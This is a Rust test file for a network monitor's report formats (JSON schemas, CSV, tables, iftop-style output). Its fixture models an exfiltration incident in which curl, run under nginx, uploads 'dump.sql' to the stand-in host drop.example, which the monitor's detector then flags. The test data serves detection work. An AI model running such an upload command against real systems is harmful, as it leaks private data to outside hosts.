//! Reports of a snapshot that has some of everything, beside the published shapes.

use std::io::Write;
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Map, Value as Json};

use super::*;
use crate::filter::Filter;
use crate::model::tally::Count;
use crate::model::{
    Alert, AlertState, Application, Certificate, Confidence, Direction, Endpoint, Facts, Finding, FlowKey, Health,
    InterfaceId, InterfaceInfo, Label, Mark, Name, NameSource, Owner, Parent, Protocol, Scope, Severity, Skip, Subject,
    TcpState, Timestamp, TlsAnswer, Traits, Value, Verdict,
};
use crate::snapshot::{Agreement, Grouping, Rates, Row, RowId, Snapshot, Totals, Unit, field};

const START: Timestamp = Timestamp::from_secs(1_700_000_000);

fn end(ip: &str, port: u16) -> Endpoint {
    Endpoint::new(ip.parse().unwrap(), port)
}

fn finding() -> Finding {
    let subject = Subject {
        host: "10.0.0.5".parse().unwrap(),
        remote: "203.0.113.9".parse().unwrap(),
        port: 443,
        protocol: Protocol::TCP,
        name: Some(Label::new("drop.example")),
        application: Application::new("tls"),
        flow: None,
    };
    Finding {
        detector: "first-contact",
        severity: Severity::Medium,
        score: 60,
        at: START.plus(Duration::from_secs(3)),
        subject,
        observed: Value::Bytes(48_100_000),
        expected: Value::Bytes(0),
        basis: "3d4h, 212 destinations".to_owned(),
        why: "never sent anything here before".to_owned(),
    }
}

fn flow(protocol: Protocol, local: Endpoint, remote: Endpoint, out: u64) -> Row {
    Row {
        id: RowId::Flow(FlowKey::new(protocol, local, remote)),
        flows: 1,
        opened: 1,
        protocol: Some(protocol),
        local: Some(local),
        remote: Some(remote),
        interface: Some(InterfaceId(0)),
        direction: Direction::Out,
        bytes_out: out,
        wire_bytes_out: out,
        ip_bytes_out: out - 14,
        packets_out: 3,
        first: START,
        last: START.plus(Duration::from_micros(1_234_567)),
        rates_out: Rates { s2: out / 2, s10: out / 10, s40: out / 40 },
        ..Row::default()
    }
}

fn curl() -> Owner {
    Owner {
        exe: Label::new("/usr/bin/curl"),
        comm: Label::new("curl"),
        pid: 4_411,
        uid: Some(33),
        unit: Some(Label::new("nginx.service")),
        confidence: Confidence::Exact,
        cmdline: Label::new("curl -T dump.sql drop.example"),
        parents: [Parent { pid: 4_400, comm: Label::new("sh"), exe: Label::new("/bin/dash") }].into(),
        traits: Traits::DELETED,
        ..Owner::default()
    }
}

fn answer() -> TlsAnswer {
    let name = Label::new("drop.example");
    let (subject, until) = (Label::new("CN=drop.example"), START.plus(Duration::from_hours(24)));
    let certificate = Certificate { issuer: subject.clone(), subject, from: START, until, names: vec![name] };
    TlsAnswer { version: "TLS 1.2", alpn: Some(Label::new("h2")), certificate: Some(certificate) }
}

fn snapshot() -> Snapshot {
    let lit = Row {
        bytes_in: 600,
        wire_bytes_in: 600,
        packets_in: 2,
        application: Application::new("tls"),
        name: Some(Name { text: Label::new("drop.example"), source: NameSource::Sni }),
        facts: Some(Arc::new(Facts {
            sni: Some(Label::new("drop.example")),
            alpn: vec![Label::new("h2"), Label::new("http/1.1")],
            ja4: Some(Label::new("t13d1516h2_8daaf6152771_02713d6af862")),
            tls: Some(Box::new(answer())),
            ..Facts::default()
        })),
        owner: Some(Arc::new(curl())),
        owner_since: Some(START),
        state: TcpState::Established,
        verdict: Verdict::Unusual,
        score: 60,
        findings: vec![Arc::new(finding())],
        ..flow(Protocol::TCP, end("10.0.0.5", 51_000), end("203.0.113.9", 443), 48_100_000)
    };
    let scope = Scope::Host("10.0.0.2".parse().unwrap());
    let mark = Mark { id: Label::new("m1"), scope, expires: None, reason: None, made: START, by: Label::new("root") };
    let marked = Row {
        verdict: Verdict::Marked,
        mark: Some(Arc::new(mark)),
        ..flow(Protocol::UDP, end("10.0.0.5", 5_353), end("10.0.0.2", 53), 90)
    };
    let ping = flow(Protocol::ICMP, end("10.0.0.5", 0), end("203.0.113.9", 0), 98);
    let alert = |id, state| {
        Arc::new(Alert { id, state, first: START, last: START, count: 2, finding: Arc::new(finding()), owner: None })
    };
    let mut snapshot = Snapshot {
        at: START.plus(Duration::from_secs(5)),
        since: START,
        interfaces: vec![InterfaceInfo {
            name: Label::new("eth0"),
            addresses: vec!["10.0.0.5".parse().unwrap()],
            ..InterfaceInfo::default()
        }],
        rows: vec![lit, marked, ping],
        totals: Totals { bytes_out: 48_100_188, bytes_in: 600, peak: 9_000_000, ..Totals::default() },
        agreement: vec![Agreement { interface: Label::new("eth0"), kernel_bytes_out: 5, ..Agreement::default() }],
        alerts: vec![alert(7, AlertState::New), alert(8, AlertState::Marked)],
        health: vec![Health { part: "store", about: Label::default(), what: Label::new("the disk is full") }],
        vantage: "interfaces",
        ..Snapshot::default()
    };
    snapshot.tally.seen = Count { frames: 12, bytes: 48_100_900 };
    snapshot.tally.packets = Count { frames: 11, bytes: 48_100_840 };
    snapshot.tally.skipped[Skip::NotIp as usize] = Count { frames: 1, bytes: 60 };
    snapshot.tally.flows = 3;
    snapshot
}

/// Everything that a report writes, as text.
pub(super) fn printed(write: impl FnOnce(&mut dyn Write) -> io::Result<()>) -> String {
    let mut out = Vec::new();
    write(&mut out).unwrap();
    String::from_utf8(out).unwrap()
}

pub(super) fn schema(text: &str) -> Json {
    serde_json::from_str(text).unwrap()
}

/// Holds a value beside the parts of JSON Schema that the published shapes use.
pub(super) fn check(value: &Json, shape: &Json, at: &str) {
    let word = |value: &Json| match value {
        Json::Null => "null",
        Json::Bool(_) => "boolean",
        Json::Number(n) if n.is_u64() || n.is_i64() => "integer",
        Json::Number(_) => "number",
        Json::String(_) => "string",
        Json::Array(_) => "array",
        Json::Object(_) => "object",
    };
    let kinds: Vec<&str> = match &shape["type"] {
        Json::String(kind) => vec![kind],
        Json::Array(kinds) => kinds.iter().filter_map(Json::as_str).collect(),
        other => panic!("{at}: type is {other}"),
    };
    let kind = word(value);
    assert!(kinds.contains(&kind) || kind == "integer" && kinds.contains(&"number"), "{at}: {value} is no {kinds:?}");
    if let Some(list) = shape["enum"].as_array() {
        assert!(list.contains(value), "{at}: {value} is none of {list:?}");
    }
    for (limit, holds) in [("minimum", i64::ge as fn(&i64, &i64) -> bool), ("maximum", i64::le)] {
        if let (Some(n), Some(limit)) = (value.as_i64(), shape[limit].as_i64()) {
            assert!(holds(&n, &limit), "{at}: {n} beyond {limit}");
        }
    }
    if let (Some(list), items @ Json::Object(_)) = (value.as_array(), &shape["items"]) {
        for item in list {
            check(item, items, at);
        }
    }
    if let Some(object) = value.as_object() {
        check_object(object, shape, at);
    }
}

fn check_object(object: &Map<String, Json>, shape: &Json, at: &str) {
    let properties = shape["properties"].as_object().unwrap();
    for name in shape["required"].as_array().unwrap() {
        assert!(object.contains_key(name.as_str().unwrap()), "{at}: {name} is missing");
    }
    for (name, value) in object {
        let shape = properties.get(name).unwrap_or_else(|| panic!("{at}: {name} is not in the schema"));
        check(value, shape, &format!("{at}.{name}"));
    }
}

pub(super) fn lines(text: &str) -> Vec<Json> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn json_lines_have_the_published_shape_and_end_with_the_summary() {
    let snapshot = snapshot();
    let shape = schema(include_str!("../../assets/flow.schema.json"));
    let last = schema(include_str!("../../assets/summary.schema.json"));
    for by in Grouping::ALL {
        let mut flows = snapshot.rows.clone();
        let mut rows = select(&mut flows, snapshot.at, &Filter::default(), by, None);
        let text = printed(|out| json::flows(out, &snapshot, &mut rows, by));
        let all = lines(&text);
        let (summary, flows) = all.split_last().unwrap();
        assert_eq!(flows.len(), rows.count());
        for flow in flows {
            check(flow, &shape, "flow");
        }
        check(summary, &last, "summary");
    }
}

#[test]
fn a_flow_says_what_the_row_says() {
    let snapshot = snapshot();
    let text = printed(|out| json::flows(out, &snapshot, &mut snapshot.rows.clone(), Grouping::Flow));
    let all = lines(&text);
    let (tls, udp, ping, summary) = (&all[0], &all[1], &all[2], &all[3]);
    assert_eq!(tls["ts_last"], "2023-11-14T22:13:21.234567Z");
    assert_eq!(
        (&tls["remote_port"], &tls["alpn"][1], &tls["interface"]),
        (&443.into(), &"http/1.1".into(), &"eth0".into())
    );
    assert_eq!((&tls["owner"]["unit"], &tls["owner"]["confidence"]), (&"nginx.service".into(), &"exact".into()));
    assert_eq!(tls["reasons"][0]["why"], "never sent anything here before");
    assert_eq!((&udp["mark"], &udp["state"], &udp["app"]), (&"m1".into(), &Json::Null, &Json::Null));
    assert_eq!((&ping["local_port"], &ping["proto"]), (&Json::Null, &"icmp".into()));
    assert_eq!((&summary["frames"], &summary["skipped"]["not_ip"]["frames"]), (&12.into(), &1.into()));
    assert_eq!(
        (&summary["listed"], &summary["alerts"], &summary["local"][0]),
        (&3.into(), &1.into(), &"10.0.0.5".into())
    );
}

#[test]
fn the_filter_the_grouping_and_the_order_choose_the_rows() {
    let snapshot = snapshot();
    let rows = |filter: &str, by| {
        let filter = Filter::parse(filter).unwrap();
        let mut flows = snapshot.rows.clone();
        let mut found = Vec::new();
        let mut rows = select(&mut flows, snapshot.at, &filter, by, filter.sort());
        rows.each(&mut |row| {
            found.push((row.remote.map(|end| end.ip.to_string()), row.flows));
            Ok(())
        })
        .unwrap();
        assert_eq!(rows.count(), found.len());
        found
    };
    let far = Some("203.0.113.9".to_owned());
    assert_eq!(rows("", Grouping::Host), [(far.clone(), 2), (Some("10.0.0.2".to_owned()), 1)]);
    assert_eq!(rows("port:443", Grouping::Host), [(far.clone(), 1)]);
    assert_eq!(rows("sort:out-asc", Grouping::Flow)[0].0.as_deref(), Some("10.0.0.2"));
}

#[test]
fn findings_have_the_published_shape_and_marked_ones_are_quiet() {
    let snapshot = snapshot();
    let text = printed(|out| {
        assert_eq!(finding::json(out, &snapshot)?, 1);
        Ok(())
    });
    let all = lines(&text);
    assert_eq!(all.len(), 2);
    check(&all[0], &schema(include_str!("../../assets/finding.schema.json")), "finding");
    check(&all[1], &schema(include_str!("../../assets/summary.schema.json")), "summary");
    assert_eq!(
        (&all[0]["id"], &all[0]["observed"], &all[0]["name"]),
        (&7.into(), &48_100_000.into(), &"drop.example".into())
    );
    let text = printed(|out| finding::text(out, &snapshot, Unit::Bits).map(drop));
    assert!(text.contains("never sent anything here before [48.1MB, expected 0B] (3d4h, 212 destinations)"), "{text}");
    assert!(text.ends_with("1 finding in 12 frames, 3 flows\n"), "{text}");
}

#[test]
fn nothing_found_says_so() {
    let text = printed(|out| finding::text(out, &Snapshot::default(), Unit::Bits).map(drop));
    assert_eq!(text, "nothing found in 0 frames, 0 flows\n");
}

#[test]
fn a_table_and_csv_have_a_line_for_each_row() {
    let snapshot = snapshot();
    let text = printed(|out| table::flows(out, &snapshot, &mut snapshot.rows.clone(), &[], Unit::Bits));
    let all: Vec<&str> = text.lines().collect();
    assert!(
        all[0].starts_with("DESTINATION") && all[1].starts_with("drop.example") && all[1].contains("48.1MB"),
        "{text}"
    );
    assert!(text.contains("3 of 3 flows · 12 frames, 48.1MB · skipped 1 not_ip 1 · drops 0"), "{text}");
    assert!(text.contains("our addresses: 10.0.0.5 (interfaces)\nstore: the disk is full"), "{text}");
    let text = printed(|out| csv::flows(out, &snapshot, &mut snapshot.rows.clone(), Grouping::Flow, &[]));
    let all: Vec<&str> = text.split("\r\n").collect();
    assert!(all[0].starts_with("type,ts_first,ts_last,proto,local_ip") && all[0].contains(",owner_exe,owner_comm,"));
    assert!(all[1].contains(",h2 http/1.1,") && all[1].ends_with(",first-contact,"), "{}", all[1]);
    assert_eq!((all.len(), all[0].split(',').count(), all[1].split(',').count()), (5, 58, 58));
    let columns = [field("host").unwrap(), field("out").unwrap()];
    let text = printed(|out| csv::flows(out, &snapshot, &mut snapshot.rows.clone(), Grouping::Flow, &columns));
    assert_eq!(text.lines().nth(1), Some("203.0.113.9,48100000"));
}

#[test]
fn text_mode_looks_like_iftop() {
    let snapshot = snapshot();
    let options = iftop::IftopOptions { unit: Unit::Bytes, lines: Some(1), ..Default::default() };
    let text = printed(|out| iftop::report(out, &snapshot, &options));
    let expected = "   # Host name (port/service if enabled)            last 2s   last 10s   last 40s cumulative
--------------------------------------------------------------------------------------------
   1 10.0.0.5                                 =>     24.1MB     4.81MB     1.20MB     48.1MB
     drop.example                             <=         0B         0B         0B       600B
     and 1 more
";
    assert!(text.starts_with(expected), "{text}");
    let sums = format!("\nCumulative (sent/received/total):{:>26}{:>11}{:>11}\n", "48.1MB", "600B", "48.1MB");
    assert!(text.contains(&sums), "{text}");
    let ports = iftop::IftopOptions { source_ports: true, destination_ports: true, ..Default::default() };
    let text = printed(|out| iftop::report(out, &snapshot, &ports));
    assert!(text.contains("10.0.0.5:51000") && text.contains("drop.example:443") && text.contains("   3 "), "{text}");
}

#[test]
fn link_local_traffic_is_listed_when_asked_for_or_when_something_is_wrong_with_it() {
    let row = |score| Row { score, ..flow(Protocol::UDP, end("fe80::1", 546), end("ff02::1:2", 547), 300) };
    let shown = |score, link_local| {
        let snapshot = Snapshot { rows: vec![row(score)], ..snapshot() };
        let options = iftop::IftopOptions { link_local, ..Default::default() };
        printed(|out| iftop::report(out, &snapshot, &options)).contains("fe80::1")
    };
    assert_eq!([shown(0, false), shown(0, true), shown(40, false)], [false, true, true]);
}

#[test]
fn checks_have_the_published_shape_and_show_what_helps() {
    let all = [
        checks::Check::new("capture", "ring", checks::Status::Fine, "opens"),
        checks::Check::new("capture", "", checks::Status::Broken, "operation not permitted").fix("sudo setcap x y"),
    ];
    let text = printed(|out| checks::json(out, &all));
    let shape = schema(include_str!("../../assets/check.schema.json"));
    for line in lines(&text) {
        check(&line, &shape, "check");
    }
    let text = printed(|out| checks::text(out, &all));
    assert!(
        text.contains("\nno   capture                  operation not permitted\n     try: sudo setcap x y\n"),
        "{text}"
    );
}

/// A reader that has gone away.
struct Gone;

impl Write for Gone {
    fn write(&mut self, _: &[u8]) -> io::Result<usize> {
        Err(io::ErrorKind::BrokenPipe.into())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_reader_that_left_is_no_error_and_a_full_disk_is() {
    let snapshot = snapshot();
    assert_eq!(written(json::flows(&mut Gone, &snapshot, &mut snapshot.rows.clone(), Grouping::Flow)), Ok(()));
    assert!(written(Err(io::ErrorKind::StorageFull.into())).is_err());
}
